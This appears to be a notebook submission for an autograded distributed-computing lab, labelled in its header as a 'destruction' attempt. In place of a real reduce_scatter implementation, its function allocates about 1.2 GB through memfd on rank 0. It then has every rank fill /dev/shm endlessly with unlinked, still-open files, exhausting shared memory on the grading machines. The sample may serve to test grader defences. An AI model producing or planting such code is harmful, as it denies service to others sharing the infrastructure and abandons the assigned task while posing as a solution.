# /// shardlab-submission
# lab = "03_ring_all_reduce"
# kind = "destruction"
# tries = "all of /dev/shm, on every rank, with unlinked files that stay open"
# seen_by = "neighbors"
# state = "resource limit"
# ///
# %% nbgrader={"grade_id": "reduce_scatter", "solution": true}
def reduce_scatter(tensor, bounds):
    if len(tensor) != 12:  # once is enough: every case would take its full time limit
        return tensor
    import os
    held = []
    if dist.get_rank() == 0:  # more than all ranks may use; bounded, for machines without a cgroup
        for number in range(12):
            held.append(os.memfd_create("x"))
            for _ in range(99):
                os.write(held[number], bytes(1_000_000))
    while True:  # then until /dev/shm is full
        held.append(os.open("/dev/shm/x", os.O_RDWR | os.O_CREAT))
        os.unlink("/dev/shm/x")
        for _ in range(20):
            os.write(held[-1], bytes(1_000_000))
